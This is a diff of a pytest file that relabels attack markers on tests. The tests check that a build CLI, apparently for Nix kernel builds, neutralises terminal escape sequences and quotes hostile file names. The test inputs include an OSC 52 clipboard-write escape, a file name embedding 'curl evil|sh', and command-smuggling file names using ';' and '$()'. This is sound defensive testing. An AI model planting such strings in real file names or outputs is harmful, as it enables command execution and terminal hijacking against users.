@@ -45,7 +45,7 @@ def nix_text(text: str) -> str:
     return f"builtins.fromJSON {shlex.quote(text)}"
 
 
-@pytest.mark.attack("A36", "escapes in a compiler's message", "shown as text")
+@pytest.mark.attack("build", "escapes in a compiler's message", "shown as text")
 @pytest.mark.parametrize("words", [(), ("-L",)])
 def test_a_message_of_a_compiler(words: tuple[str, ...], cli: Cli, kernel: FakeKernel) -> None:
     said = r"k/a.cpp:3:5: error: \033]52;c;ZXZpbA==\007\033[2J"
@@ -56,7 +56,7 @@ def test_a_message_of_a_compiler(words: tuple[str, ...], cli: Cli, kernel: FakeK
     assert "\x07" not in shown
 
 
-@pytest.mark.attack("A36", "escapes in a flake's warning", "shown as text")
+@pytest.mark.attack("list-variants", "escapes in a flake's warning", "shown as text")
 def test_a_warning_of_a_flake(cli: Cli, kernel: FakeKernel) -> None:
     kernel.add("one")
     folder = kernel.write()
@@ -72,7 +72,7 @@ def test_a_warning_of_a_flake(cli: Cli, kernel: FakeKernel) -> None:
     assert "\x07" not in shown
 
 
-@pytest.mark.attack("A36", "escapes in a file's name", "shown as text")
+@pytest.mark.attack("check-config", "escapes in a file's name", "shown as text")
 def test_a_name_of_a_file(cli: Cli) -> None:
     folder = cli.folder / f"a{ESCAPES}"
     folder.mkdir()
@@ -83,7 +83,9 @@ def test_a_name_of_a_file(cli: Cli) -> None:
     }
 
 
-@pytest.mark.attack("X9", "a file named x;curl evil|sh;.cpp in a proposed command", "quoted")
+@pytest.mark.attack(
+    "list-variants", "a file named x;curl evil|sh;.cpp in a proposed command", "quoted"
+)
 def test_a_proposed_command(kernel: FakeKernel, tmp_path: Path) -> None:
     name = f"x;touch {tmp_path.name};$(touch y).nix"
     kernel.add("one")
